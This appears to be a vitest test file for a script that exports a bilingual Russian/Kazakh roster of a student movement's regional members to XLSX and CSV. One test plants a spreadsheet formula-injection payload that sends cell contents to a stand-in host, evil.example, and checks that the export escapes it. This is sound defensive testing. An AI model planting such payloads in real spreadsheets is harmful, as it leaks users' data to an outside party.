import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { writeFilesAtomically } from '../../src/reports/atomic-write.ts';
import { formulaSafe } from '../../src/reports/ministry-csv.ts';
import { ExportRefusedError, exportMinistryList } from '../../src/reports/ministry-export.ts';
import { fixtureTree } from '../helpers/fixture-tree.ts';

const NOW = new Date('2027-05-28T10:00:00+05:00');
const SCRIPT = join(import.meta.dirname, '../../scripts/export-ministry.ts');
const outDir = () => join(mkdtempSync(join(tmpdir(), 'ministry-')), 'out');

async function readBook(path: string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  return book;
}
/** The CSV read back as a spreadsheet would: BOM dropped, `;` between fields, RFC 4180 quotes. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let field = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const char = body[i]!;
    if (quoted && char === '"' && body[i + 1] === '"') (field += '"'), i++;
    else if (char === '"') quoted = !quoted;
    else if (!quoted && char === ';') rows.at(-1)!.push(field), (field = '');
    else if (!quoted && char === '\r' && body[i + 1] === '\n') rows.at(-1)!.push(field), (field = ''), rows.push([]), i++;
    else field += char;
  }
  if (rows.at(-1)!.length === 0) rows.pop();
  return rows;
}
const values = (ws: ExcelJS.Worksheet) => ws.getSheetValues().filter(Boolean).map((row) => (row as unknown[]).slice(1));

describe('export:ministry', () => {
  it('marks an approval from a previous season as outdated, as status does, in the CSV and the workbook', async () => {
    const tree = fixtureTree();
    tree.replace('representations/ulytau/region.yaml', 'date: 2027-05-20', 'date: 2026-05-20');
    const out = outDir();
    // Before composition_approved the old order is not yet an error: the export goes out, marked.
    await exportMinistryList({ contentDir: tree.root, outDir: out, now: new Date('2027-05-10T10:00:00+05:00') });
    const marked = '2026-05-20 (устарел: приказ прошлого сезона / ескірген: өткен маусымның бұйрығы)';
    const csv = readCsv(readFileSync(join(out, 'ministry-list-2027.csv'), 'utf8'));
    expect(csv.slice(1).map((row) => row.at(-1))).toEqual(Array(csv.length - 1).fill(marked));
    const [summary, region] = (await readBook(join(out, 'ministry-list-2027.xlsx'))).worksheets.map(values) as [unknown[][], unknown[][]];
    expect(summary[2]![3]).toBe(marked);
    expect(String(region[1]![0])).toContain(marked);

    // This season's order (the autumn before counts, as in status): no mark.
    tree.replace('representations/ulytau/region.yaml', 'date: 2026-05-20', 'date: 2026-10-01');
    const fresh = outDir();
    await exportMinistryList({ contentDir: tree.root, outDir: fresh, now: new Date('2027-05-10T10:00:00+05:00') });
    expect(readFileSync(join(fresh, 'ministry-list-2027.csv'), 'utf8')).not.toContain('устарел');
  });

  it('writes a summary sheet and a sheet per region, headers in Russian and Kazakh, hidden names unnamed', async () => {
    const tree = fixtureTree();
    const out = outDir();
    const written = await exportMinistryList({ contentDir: tree.root, outDir: out, now: NOW });
    expect(written.map((p) => p.slice(out.length + 1))).toEqual(['ministry-list-2027.xlsx', 'ministry-list-2027.csv']);

    const book = await readBook(join(out, 'ministry-list-2027.xlsx'));
    expect(book.worksheets.map((ws) => ws.name)).toEqual(['Свод - Жиынтық', 'область Ұлытау']);
    const [summary, region] = book.worksheets.map(values) as [unknown[][], unknown[][]];
    expect(summary[0]![0]).toMatch(/^Список онлайн-представительств .* сезон 2027 \/ «Мың жаса!» қозғалысының .* 2027 маусымы$/);
    expect(summary[1]!.slice(0, 3)).toEqual(['№ п/п / Р/с №', 'Регион / Өңір', 'Приказ об утверждении состава / Құрамды бекіту туралы бұйрық']);
    expect(summary[2]!.slice(0, 7)).toEqual([1, 'область Ұлытау / Ұлытау облысы', '№ 45-ө', '2027-05-20', 5, 5, 5]);
    expect(summary[2]![8]).toBe('info@ulytau-bilim.example.kz, +7 7102 00 00 00');

    expect(region[3]).toEqual(['№ п/п / Р/с №', 'Участник (имя в согласованной форме) / Қатысушы (келісілген түрдегі аты)', 'Класс / Сынып', 'Роль / Рөлі', 'Возглавляет город/район / Басқаратын қала/аудан']);
    expect(region.slice(4)).toEqual([
      [1, 'Ару А.', 9, 'лидер / көшбасшы', 'город Жезказган / Жезқазған қаласы'],
      [2, 'Бек Б.', 8, 'член / мүше', 'город Каражал / Қаражал қаласы'],
      [3, '(аты жасырылған / имя скрыто)', 10, 'член / мүше', 'город Сатпаев / Сәтбаев қаласы'],
      [4, 'Ерлан Тестов', 7, 'член / мүше', 'Жанааркинский район / Жаңаарқа ауданы'],
      [5, 'Гүл Г.', 11, 'член / мүше', 'Улытауский район / Ұлытау ауданы'],
    ]);
    const xlsxText = JSON.stringify(book.worksheets.map(values));
    expect(xlsxText).not.toContain('Дана');
    expect(xlsxText).not.toContain('ЧЕРНОВИК');
  });

  it('writes CSV in UTF-8 with a BOM, one row per regional member', async () => {
    const tree = fixtureTree();
    const out = outDir();
    await exportMinistryList({ contentDir: tree.root, outDir: out, now: NOW });
    const bytes = readFileSync(join(out, 'ministry-list-2027.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
    expect(lines).toHaveLength(6);
    expect(lines[0]).toMatch(/^"Регион \/ Өңір";"№ п\/п \/ Р\/с №";/);
    expect(lines[3]).toBe('"область Ұлытау / Ұлытау облысы";"3";"(аты жасырылған / имя скрыто)";"10";"член / мүше";"город Сатпаев / Сәтбаев қаласы";"№ 45-ө";"2027-05-20"');
  });

  it('writes a cell a spreadsheet would run as a formula as text (OWASP: a leading apostrophe), in the CSV; the XLSX keeps it a string', async () => {
    const tree = fixtureTree();
    const out = outDir();
    const attack = '=HYPERLINK("https://evil.example/?"&C2&C3,"Открыть")';
    tree.replace('representations/ulytau/region.yaml', 'order: "№ 45-ө"', `order: '${attack}'`);
    await exportMinistryList({ contentDir: tree.root, outDir: out, now: NOW });
    const rows = readCsv(readFileSync(join(out, 'ministry-list-2027.csv'), 'utf8'));
    const orderColumn = rows[0]!.findIndex((header) => header.startsWith('Приказ'));
    expect(orderColumn).toBeGreaterThan(0);
    for (const row of rows.slice(1)) expect(row[orderColumn]).toBe(`'${attack}`);

    // exceljs writes a JavaScript string as a string cell (no <f> formula element): Excel and LibreOffice show it as text.
    const book = await readBook(join(out, 'ministry-list-2027.xlsx'));
    const cells = book.worksheets.flatMap((ws) => ws.getSheetValues().flatMap((row) => (Array.isArray(row) ? row : [])));
    expect(cells.filter((value) => typeof value === 'string' && value.includes('HYPERLINK')).length).toBeGreaterThan(0);
    expect(cells.some((value) => value !== null && typeof value === 'object' && 'formula' in value)).toBe(false);
  });

  it('formulaSafe prefixes exactly the cells that start a formula', () => {
    for (const text of ['=1+1', '+7 701', '-2', '@SUM(A1)', '\t=1', '\r=1']) expect(formulaSafe(text)).toBe(`'${text}`);
    for (const text of ['№ 45-ө', 'Ару А.', '2027-05-20', ' =1', '']) expect(formulaSafe(text)).toBe(text);
  });

  it('refuses while the rosters have errors and leaves the previous files intact', async () => {
    const tree = fixtureTree();
    const out = outDir();
    await exportMinistryList({ contentDir: tree.root, outDir: out, now: NOW });
    const before = readFileSync(join(out, 'ministry-list-2027.xlsx'));
    tree.replace('representations/ulytau/region.yaml', 'grade: 8', 'grade: 2');
    await expect(exportMinistryList({ contentDir: tree.root, outDir: out, now: NOW })).rejects.toBeInstanceOf(ExportRefusedError);
    expect(readFileSync(join(out, 'ministry-list-2027.xlsx')).equals(before)).toBe(true);
    expect(readdirSync(out).sort()).toEqual(['ministry-list-2027.csv', 'ministry-list-2027.xlsx']);
  });

  it('exports a marked draft with --draft, beside the last good list', async () => {
    const tree = fixtureTree();
    const out = outDir();
    tree.replace('representations/ulytau/region.yaml', 'grade: 8', 'grade: 2');
    const written = await exportMinistryList({ contentDir: tree.root, outDir: out, now: NOW, draft: true });
    expect(written.map((p) => p.slice(out.length + 1))).toEqual(['ministry-list-2027-draft.xlsx', 'ministry-list-2027-draft.csv']);
    const book = await readBook(written[0]!);
    for (const ws of book.worksheets) {
      expect(values(ws)[0]![0]).toMatch(/^ЧЕРНОВИК — НЕ ДЛЯ ОТПРАВКИ.* \/ ЖОБА/);
      expect(ws.headerFooter.oddHeader).toContain('ЧЕРНОВИК');
    }
    expect(readFileSync(written[1]!, 'utf8').split('\r\n')[0]).toMatch(/^\uFEFF"ЧЕРНОВИК/);
  });

  it('is not blocked by errors in events', async () => {
    const tree = fixtureTree();
    tree.replace('events/2027/test-reading.mdx', 'format: online', 'format: zoom');
    await expect(exportMinistryList({ contentDir: tree.root, outDir: outDir(), now: NOW })).resolves.toHaveLength(2);
  });

  it('keeps the previous files when writing fails halfway, and leaves no temporary files', async () => {
    const out = outDir();
    await writeFilesAtomically(out, [
      { name: 'a.txt', write: async (p) => (await import('node:fs/promises')).writeFile(p, 'old a') },
      { name: 'b.txt', write: async (p) => (await import('node:fs/promises')).writeFile(p, 'old b') },
    ]);
    await expect(
      writeFilesAtomically(out, [
        { name: 'a.txt', write: async (p) => (await import('node:fs/promises')).writeFile(p, 'new a') },
        { name: 'b.txt', write: async () => Promise.reject(new Error('disk full')) },
      ]),
    ).rejects.toThrow('disk full');
    expect(readdirSync(out).sort()).toEqual(['a.txt', 'b.txt']);
    expect([readFileSync(join(out, 'a.txt'), 'utf8'), readFileSync(join(out, 'b.txt'), 'utf8')]).toEqual(['old a', 'old b']);
  });

  it('runs as `npm run export:ministry`: exit 1 with a kk/ru message when refused', () => {
    const tree = fixtureTree();
    tree.replace('representations/ulytau/region.yaml', 'grade: 8', 'grade: 2');
    const out = outDir();
    const run = spawnSync(process.execPath, [SCRIPT, '--content', 'content', '--out', out, '--now', NOW.toISOString()], { cwd: dirname(tree.root), encoding: 'utf8' });
    expect(run.status).toBe(1);
    expect(run.stderr).toContain('Министрлікке тізім шығарылмайды');
    expect(run.stderr).toContain('Список для Министерства не выгружен');
    expect(existsSync(join(out, 'ministry-list-2027.xlsx'))).toBe(false);
  });
});
